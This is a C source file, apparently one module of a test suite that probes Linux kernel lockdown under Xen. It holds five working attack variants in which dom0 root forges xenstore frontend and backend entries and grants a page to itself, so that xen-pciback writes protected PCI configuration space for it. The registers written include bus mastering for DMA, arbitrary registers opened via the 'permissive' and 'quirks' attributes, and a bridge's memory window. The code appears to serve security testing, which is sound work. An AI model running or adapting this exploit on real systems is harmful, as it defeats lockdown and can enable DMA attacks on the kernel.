// SPDX-License-Identifier: GPL-2.0-only
/*
 * L-PCIBACK and variants: write a device's configuration space by the kernel's
 * hand.
 *
 * The kernel's lockdown keeps root from configuration space, because what
 * stands there decides what a device does. xen-pciback writes it for the domain
 * that borrows the device, and whoever stands in xenstore is that domain: here
 * dom0 itself, with a page that dom0 grants to itself. pciback lets any borrower
 * write some registers; what root writes to its attributes in sysfs opens the
 * others.
 *
 * The request is in the page before pciback maps it: in a PVH dom0 the page has
 * no memory here once it is mapped there.
 */
#include "lasting.h"
#include "store.h"

#include <dirent.h>
#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/mman.h>

#include <xen/evtchn.h>
#include <xen/gntalloc.h>
#include <xen/io/pciif.h>

#define HEADER_TYPE   0x0e
#define INTERRUPT_PIN 0x3d

enum header { DEVICE, BRIDGE };

/* What is written: these bits of this byte are turned over. */
struct target {
    unsigned int number; /* of the backend */
    enum header header;
    uint16_t at;
    uint8_t bits;
    /* One of pciback's attributes, and what is written to it after the device. */
    const char *attribute, *word;
};

static const struct target cache_line = { 0, DEVICE, 0x0c, 0xff, NULL, NULL };
/* Bus mastering, in the command register: whether the device may do DMA. */
static const struct target command = { 1, DEVICE, 0x04, 0x04, NULL, NULL };
/* No register of any standard's: what is there is the device's own affair. */
static const struct target any = { 2, DEVICE, 0xfc, 0xff, "permissive", "" };
static const struct target quirk = {
    3, DEVICE, 0xfc, 0xff, "quirks", "-fc:1:ff"
};
/* Where the memory behind a bridge begins. */
static const struct target window = { 4, BRIDGE, 0x20, 0xf0, "permissive", "" };

static const struct target *target;

/* ---- the device ---- */

static char device[sizeof("0000:00:00.0")];

static const char *path_of(const char *name, const char *file)
{
    static char path[100];

    snprintf(path, sizeof(path), "/sys/bus/pci/devices/%.12s/%s", name, file);
    return path;
}

static uint8_t config_byte(const char *name, uint64_t at)
{
    uint8_t byte = 0xff;

    read_bytes(path_of(name, "config"), &byte, sizeof(byte), at);
    return byte;
}

/*
 * A bridge; or a device without a driver, and with an interrupt, which pciback
 * wants.
 */
static bool is_fit(const char *name)
{
    return strlen(name) == sizeof(device) - 1 &&
           (config_byte(name, HEADER_TYPE) & 0x7f) == target->header &&
           (target->header == BRIDGE ||
            (config_byte(name, INTERRUPT_PIN) &&
             access(path_of(name, "driver"), F_OK)));
}

static void write_file(const char *path, const char *word)
{
    if ( !write_word(path, word) )
        note_node_error(errno);
}

/* Let pciback write what it keeps from a borrower otherwise. */
static void open_registers(void)
{
    char path[60], word[60];

    snprintf(path, sizeof(path), "/sys/bus/pci/drivers/pciback/%s",
             target->attribute);
    snprintf(word, sizeof(word), "%s%s", device, target->word);
    write_file(path, word);
}

/* Give a device to pciback. Only a bridge has had another driver. */
static bool seize_device(void)
{
    DIR *devices = opendir("/sys/bus/pci/devices");
    struct dirent *entry;

    while ( devices && !*device && (entry = readdir(devices)) )
        if ( is_fit(entry->d_name) )
            snprintf(device, sizeof(device), "%.12s", entry->d_name);
    if ( devices )
        closedir(devices);

    write_file(path_of(device, "driver_override"), "pciback");
    write_word(path_of(device, "driver/unbind"), device);
    write_file("/sys/bus/pci/drivers_probe", device);
    if ( target->attribute )
        open_registers();
    return *device && !access(path_of(device, "driver"), F_OK);
}

/* For the next attempt. */
static void give_back_device(void)
{
    write_file(path_of(device, "driver_override"), "\n");
    write_file("/sys/bus/pci/drivers/pciback/unbind", device);
}

/* ---- the borrower ---- */

static uint32_t grant_page(void **page)
{
    struct ioctl_gntalloc_alloc_gref grant = { .flags = GNTALLOC_FLAG_WRITABLE,
                                               .count = 1 };
    const int driver = open("/dev/xen/gntalloc", O_RDWR | O_CLOEXEC);

    if ( driver < 0 || ioctl(driver, IOCTL_GNTALLOC_ALLOC_GREF, &grant) )
        return 0;

    *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, driver,
                 (off_t)grant.index);
    return *page == MAP_FAILED ? 0 : grant.gref_ids[0];
}

/* pciback takes the device's function over, and counts devices from 0. */
static void request_write(struct xen_pci_sharedinfo *page, uint8_t value)
{
    page->op = (struct xen_pci_op){
        .cmd = XEN_PCI_OP_conf_write,
        .devfn = (uint32_t)(device[sizeof(device) - 2] - '0'),
        .offset = target->at,
        .size = 1,
        .value = value,
    };
    page->flags = XEN_PCIF_active;
}

static const char *backend_path(const char *key)
{
    static char path[60];

    snprintf(path, sizeof(path), "/local/domain/0/backend/pci/0/%u%s",
             target->number, key);
    return path;
}

/* What the kernel shows of the backend. */
static bool backend_has(const char *file)
{
    char path[80];

    snprintf(path, sizeof(path), "/sys/bus/xen-backend/devices/pci-0-%u/%s",
             target->number, file);
    return !access(path, F_OK);
}

static bool backend_appears(void)
{
    for ( unsigned int i = 0; i < 500 && !backend_has(""); i++ )
        rest(10);
    return backend_has("");
}

static bool attach_backend(uint32_t grant, int port)
{
    char grant_text[16], port_text[16], path[40];
    const char *const frontend[] = {
        "backend",    backend_path(""), "backend-id",    "0",
        "pci-op-ref", grant_text,       "event-channel", port_text,
        "magic",      XEN_PCI_MAGIC,    "state",         "3",
        NULL
    };
    const char *const backend[] = { "frontend", path,   "frontend-id", "0",
                                    "online",   "1",    "num_devs",    "1",
                                    "dev-0",    device, "state",       "1",
                                    NULL };

    snprintf(grant_text, sizeof(grant_text), "%u", grant);
    snprintf(port_text, sizeof(port_text), "%d", port);
    snprintf(path, sizeof(path), "/local/domain/0/rogue/pci%u", target->number);

    return store_write_all(path, frontend) &&
           store_write_all(backend_path(""), backend) && backend_appears();
}

static bool is_written(uint8_t before)
{
    return (config_byte(device, target->at) ^ before) & target->bits;
}

static enum outcome borrow_device(void)
{
    struct ioctl_evtchn_bind_unbound_port listen = { .remote_domain = 0 };
    const int events = open("/dev/xen/evtchn", O_RDWR | O_CLOEXEC),
              port = ioctl(events, IOCTL_EVTCHN_BIND_UNBOUND_PORT, &listen);
    struct ioctl_evtchn_notify notify = { .port = (unsigned int)port };
    const uint8_t before = config_byte(device, target->at);
    void *page = NULL;
    const uint32_t grant = grant_page(&page);

    if ( port < 0 || !grant )
        return cannot_try("no event channel, or no page to grant");

    request_write(page, before ^ target->bits);
    if ( !attach_backend(grant, port) )
        return cannot_try("the kernel does not see pciback's backend");
    rest(1000); /* the kernel asks the driver at once */
    if ( !backend_has("driver") )
        return effect(false, "the kernel lets pciback serve nobody");
    if ( !store_shows(backend_path("/state"), "4") )
        return cannot_try("pciback does not offer the device");

    ioctl(events, IOCTL_EVTCHN_NOTIFY, &notify);
    for ( unsigned int i = 0; i < 1000 && !is_written(before); i++ )
        rest(10);
    if ( !is_written(before) )
        return cannot_try("pciback serves us, and has not written");

    return effect(true,
                  "configuration space of %s written by pciback: byte "
                  "%#x from %#x to %#x",
                  device, target->at, before, config_byte(device, target->at));
}

static enum outcome write_to(const struct target *what)
{
    enum outcome outcome;

    target = what;
    if ( access("/sys/bus/pci/drivers/pciback", F_OK) )
        return cannot_try("the kernel has no xen-pciback");
    if ( !serve_store() )
        return cannot_try("xenstore cannot be served");
    if ( !seize_device() )
        return cannot_try("pciback takes no device%s%s", *device ? ": " : "",
                          device);

    outcome = run_lasting(borrow_device);
    if ( outcome == REFUSED )
        give_back_device();
    return outcome;
}

ATTACK_OWN_BOOT("L-PCIBACK",
                "have xen-pciback write configuration space for dom0")
{
    return write_to(&cache_line);
}

ATTACK_OWN_BOOT("L-PCIBACK-MASTER",
                "have xen-pciback let a device of dom0's do DMA")
{
    return write_to(&command);
}

ATTACK_OWN_BOOT("L-PCIBACK-PERMISSIVE",
                "have xen-pciback write any register, by permissive")
{
    return write_to(&any);
}

ATTACK_OWN_BOOT("L-PCIBACK-QUIRKS",
                "have xen-pciback write a register that quirks names")
{
    return write_to(&quirk);
}

ATTACK_OWN_BOOT("L-PCIBACK-BRIDGE",
                "have xen-pciback move the memory behind a bridge")
{
    return write_to(&window);
}
